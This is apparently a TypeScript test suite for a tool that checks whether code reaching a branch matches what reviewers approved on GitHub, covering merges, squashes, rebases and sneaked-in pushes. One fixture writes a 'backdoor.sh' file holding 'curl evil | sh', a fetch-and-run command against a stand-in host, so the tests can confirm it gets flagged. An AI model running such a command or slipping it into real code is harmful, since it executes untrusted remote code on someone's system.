/** Reviews held against what git itself knows: somebody who may push cannot add to what was reviewed. */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createBranchHistory } from '../../activities/github/branch-history.js';
import { readReviews } from '../../activities/github/read-reviews.js';
import { createSource } from '../../activities/source/source.js';
import { ANYBODY, githubOf, givenGithub, mergedPull } from '../support/github/scene.js';
import type { FakePull } from '../support/github/state.js';
import { createRepository, type TestRepository } from '../support/repository.js';

const standIn = givenGithub();
let repository: TestRepository;
let folder: string;
/** What is live. */
let since: string;

beforeEach(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'slw-github-history-'));
  repository = await createRepository();
  since = await repository.commit('live', { app: '1', other: '1' });
  standIn.state.permissions = { bob: 'write', carol: 'write' };
});
afterEach(async () => {
  await repository.remove();
  await rm(folder, { recursive: true, force: true });
});

async function read(commit: string, from: string | null = since, branch = 'main') {
  const real = createSource({ cacheFolder: path.join(folder, 'cache') });
  const source = {
    open: (_url: string) => real.open(repository.folder),
    fetch: (_url: string) => real.fetch(repository.folder),
    fetchCommit: (_url: string, sha: string) => real.fetchCommit(repository.folder, sha),
  };
  const open = await githubOf(standIn).open(standIn.repositoryUrl);
  const history = createBranchHistory(source, standIn.repositoryUrl);
  const sources = { repository: open, history, reviewers: ANYBODY };
  const { given, note } = await readReviews(sources, { commit, branch, since: from });
  return { by: given.map((review) => review.by), note };
}

/** A branch with these commits of anna's; gives their ids. */
async function develop(branch: string, ...files: Record<string, string>[]): Promise<string[]> {
  await repository.git('switch', '--quiet', '--create', branch);
  const commits = [];
  for (const [n, each] of files.entries()) commits.push(await repository.commit(`${branch} ${n}`, each));
  await repository.git('switch', '--quiet', 'main');
  return commits;
}

async function mergeBranch(branch: string): Promise<string> {
  await repository.git('merge', '--quiet', '--no-ff', `--message=merge ${branch}`, branch);
  return await repository.git('rev-parse', 'HEAD');
}

function pullOf(
  commits: string[],
  mergeSha: string,
  reviewers: string[],
  over: Partial<FakePull> = {},
): FakePull {
  const headSha = commits.at(-1) ?? '';
  return mergedPull({
    headSha,
    mergeSha,
    commits: commits.map((sha) => ({ sha, author: 'anna' })),
    reviews: reviewers.map((by) => ({ by, state: 'APPROVED', commit: headSha })),
    ...over,
  });
}

describe('what was reviewed counts', () => {
  it.each([
    ['merged', () => mergeBranch('cart')],
    [
      'squashed',
      async () => {
        await repository.git('merge', '--quiet', '--squash', 'cart');
        return await repository.commit('cart (#7)', {});
      },
    ],
    [
      'rebased',
      async () => {
        await repository.git('cherry-pick', 'cart~1', 'cart');
        return await repository.git('rev-parse', 'HEAD');
      },
    ],
    [
      'moved forward',
      async () => {
        await repository.git('reset', '--quiet', '--hard', 'cart');
        return await repository.git('rev-parse', 'HEAD');
      },
    ],
  ])('%s', async (what, bring) => {
    const commits = await develop('cart', { app: '2' }, { app: '3' });
    if (what !== 'moved forward') since = await repository.commit('meanwhile', { other: '2' });
    const merge = await bring();
    const rebased = what === 'rebased' ? [await repository.git('rev-parse', 'HEAD~1')] : [];
    standIn.state.pulls = [pullOf(commits, merge, ['bob', 'carol'], { rebased })];
    expect(await read(merge)).toEqual({ by: ['bob', 'carol'], note: '#7 into main: approved by bob, carol' });
  });
});

it('the tested commit counts by its own pull request, where a merge that changed nothing is on top of it', async () => {
  const stage = await develop('stage', { app: '2' });
  const feature = await develop('cart', { other: '3' });
  await repository.git('switch', '--quiet', 'stage');
  const tested = await mergeBranch('cart');
  await repository.git('switch', '--quiet', 'main');
  const button = await mergeBranch('stage');
  standIn.state.pulls = [
    pullOf(feature, tested, ['bob'], { number: 6, base: 'stage' }),
    pullOf([...stage, ...feature, tested], button, ['bob', 'carol']),
  ];
  expect((await read(button)).by).toEqual(['bob', 'carol']);
  expect(await read(tested)).toEqual({ by: ['bob', 'carol'], note: '#7 into main: approved by bob, carol' });
});

it('what was merged into one release branch before another was begun on it was reviewed as well', async () => {
  await repository.git('switch', '--quiet', '--create', 'release/1.1');
  const first = await develop('fix', { app: '2' });
  await repository.git('switch', '--quiet', 'release/1.1');
  const before = await mergeBranch('fix');
  await repository.git('switch', '--quiet', '--create', 'release/1.2');
  const second = await develop('next', { other: '2' });
  await repository.git('switch', '--quiet', 'release/1.2');
  const merge = await mergeBranch('next');
  standIn.state.pulls = [
    pullOf(first, before, ['bob'], { number: 6, base: 'release/1.1' }),
    pullOf(second, merge, ['bob', 'carol'], { base: 'release/1.2' }),
  ];
  expect((await read(merge, since, 'release/*')).by).toEqual(['bob']);
  expect((await read(merge, since, 'release/1.2')).note).toContain(
    'came into release/1.2 past any pull request',
  );
});

describe('what was not reviewed', () => {
  it('a merge by hand with more in it', async () => {
    const commits = await develop('cart', { app: '2' });
    await repository.git('merge', '--quiet', '--no-ff', '--no-commit', 'cart');
    const merge = await repository.commit('merge cart', { 'backdoor.sh': 'curl evil | sh' });
    standIn.state.pulls = [pullOf(commits, merge, ['bob', 'carol'])];
    const { by, note } = await read(merge);
    expect(by).toEqual([]);
    expect(note).toBe(
      `${merge.slice(0, 7)} is not what merging #7 as reviewed gives: something else is in it`,
    );
  });

  it('a push before a reviewed merge', async () => {
    const commits = await develop('cart', { app: '2' });
    const push = await repository.commit('evil', { other: 'evil' });
    const merge = await mergeBranch('cart');
    standIn.state.pulls = [pullOf(commits, merge, ['bob', 'carol'])];
    const { by, note } = await read(merge);
    expect(by).toEqual([]);
    expect(note).toMatch(new RegExp(`^${push.slice(0, 7)} came into main past any pull request`));
  });

  it('a pull request merged without a review before a reviewed one', async () => {
    const sneaked = await develop('sneak', { other: 'evil' });
    const commits = await develop('cart', { app: '2' });
    const first = await mergeBranch('sneak');
    const merge = await mergeBranch('cart');
    standIn.state.pulls = [
      pullOf(sneaked, first, ['bob'], { number: 6 }),
      pullOf(commits, merge, ['bob', 'carol']),
    ];
    expect(await read(merge)).toEqual({
      by: ['bob'],
      note: '#7 into main: approved by bob, carol; #6 into main: approved by bob',
    });
    // what is live already is not reviewed again
    expect((await read(merge, first)).by).toEqual(['bob', 'carol']);
    expect((await read(merge, null)).by).toEqual(['bob', 'carol']);
  });

  it('a merge by hand on the way from dev', async () => {
    await repository.git('branch', 'stage');
    const commits = await develop('cart', { app: '2' });
    await repository.git('switch', '--quiet', '--create', 'dev');
    const onDev = await mergeBranch('cart');
    await repository.git('switch', '--quiet', 'stage');
    await repository.git('merge', '--quiet', '--no-ff', '--no-commit', 'dev');
    const evil = await repository.commit('merge dev', { other: 'evil' });
    const dev = pullOf(commits, onDev, ['bob'], { number: 1, base: 'dev' });
    standIn.state.pulls = [dev, pullOf([onDev], evil, ['carol'], { number: 2, base: 'stage' })];
    expect((await read(evil, since, 'dev')).by).toEqual([]);
    await repository.git('reset', '--quiet', '--hard', 'HEAD~1');
    const clean = await mergeBranch('dev');
    standIn.state.pulls = [dev, pullOf([onDev], clean, ['carol'], { number: 2, base: 'stage' })];
    expect(await read(clean, since, 'dev')).toEqual({ by: ['bob'], note: '#1 into dev: approved by bob' });
    expect((await read(clean, since, 'stage')).by).toEqual(['carol']);
  });

  it('more merges than can be read', async () => {
    let merge = since;
    for (let n = 0; n < 61; n += 1) merge = await repository.commit(`push ${n}`, { app: String(n) });
    standIn.state.pulls = [pullOf([merge], merge, ['bob'])];
    expect(await read(merge)).toMatchObject({ by: [], note: expect.stringContaining('61 merges into main') });
  });
});
